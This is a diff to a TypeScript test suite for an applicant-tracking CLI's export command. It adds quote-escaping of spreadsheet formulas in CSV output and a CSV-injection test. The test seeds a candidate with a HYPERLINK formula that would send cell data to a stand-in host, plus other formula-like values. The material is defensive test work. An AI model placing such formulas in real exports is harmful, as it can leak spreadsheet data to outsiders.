@@ -2,7 +2,9 @@
  * `factorial-ats export`, run as a child process against a sandbox over HTTP: every resource in every format holds
  * exactly the records of the SDK's own scan, in order, ids as exact strings.
  */
-import { Ats, type Resource } from "@effect-factorial/ats"
+import { Ats, Candidates, type Resource } from "@effect-factorial/ats"
+import { SandboxState } from "@effect-factorial/sandbox"
+import { CompanyId } from "@effect-factorial/schema"
 import { describe, expect, layer } from "@effect/vitest"
 import * as Effect from "effect/Effect"
 import * as Schema from "effect/Schema"
@@ -19,9 +21,18 @@ const columnsOf = (model: Schema.Schema.AnyNoContext): Array<string> => {
   return ast._tag === "TypeLiteral" ? ast.propertySignatures.map((p) => String(p.name)) : []
 }
 
-/** What a CSV cell must hold for a value: empty for absent or null, JSON for nested values. */
+/**
+ * What a CSV cell must hold for a value: empty for absent or null, JSON for nested values, and text a spreadsheet
+ * would run as a formula after a `'`.
+ */
 const cell = (value: unknown) =>
-  value === undefined || value === null ? "" : typeof value === "object" ? JSON.stringify(value) : String(value)
+  value === undefined || value === null
+    ? ""
+    : typeof value === "object"
+    ? JSON.stringify(value)
+    : typeof value === "string" && /^[=+\-@\t\r]/.test(value)
+    ? `'${value}`
+    : String(value)
 
 const definitions = Ats.resources as ReadonlyArray<Resource.Definition>
 
@@ -90,5 +101,32 @@ layer(sandbox({ size: 230, seed: 7 }), { excludeTestServices: true })("export ma
       expect(result).toMatchObject({ code: 0, stdout: "", stderr: "" })
       const definition = definitions.find((d) => d.path === "hiring_stages")!
       expect(parseCsv(readFileSync(out, "utf8")).length).toBe((yield* scan(definition)).length + 1)
+    }))
+})
+
+layer(sandbox({ size: 2, seed: 7 }), { excludeTestServices: true })("CSV injection", (it) => {
+  it.effect("formula text is written after a ' by default, as it is with --csv-raw, and only CSV takes the flag", () =>
+    Effect.gen(function*() {
+      const env = yield* sandboxEnv
+      const formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")"
+      const company = CompanyId.make((yield* SandboxState).companyId)
+      const created = yield* Effect.flatMap(Candidates, (candidates) =>
+        candidates.create({ first_name: formula, last_name: "@SUM(1+1)", company_id: company, email: "-x@example.com" }))
+      const [guarded, raw, notCsv] = yield* Effect.all([
+        cli(["export", "candidates", "--format", "csv"], { env }),
+        cli(["export", "candidates", "--format", "csv", "--csv-raw"], { env }),
+        cli(["export", "candidates", "--csv-raw"], { env })
+      ], { concurrency: 3 })
+      const rowOf = (stdout: string) => {
+        const [header, ...rows] = parseCsv(stdout)
+        const row = rows.find((cells) => cells[header!.indexOf("id")] === String(created.id))!
+        return Object.fromEntries(["first_name", "last_name", "email"].map((name) => [name, row[header!.indexOf(name)]]))
+      }
+      expect(guarded.code).toBe(0)
+      expect(rowOf(guarded.stdout)).toEqual({ first_name: `'${formula}`, last_name: "'@SUM(1+1)", email: "'-x@example.com" })
+      expect(raw.code).toBe(0)
+      expect(rowOf(raw.stdout)).toEqual({ first_name: formula, last_name: "@SUM(1+1)", email: "-x@example.com" })
+      expect(notCsv.code).not.toBe(0)
+      expect(notCsv.stderr).toContain("--csv-raw: only with --format csv")
     }))
 })
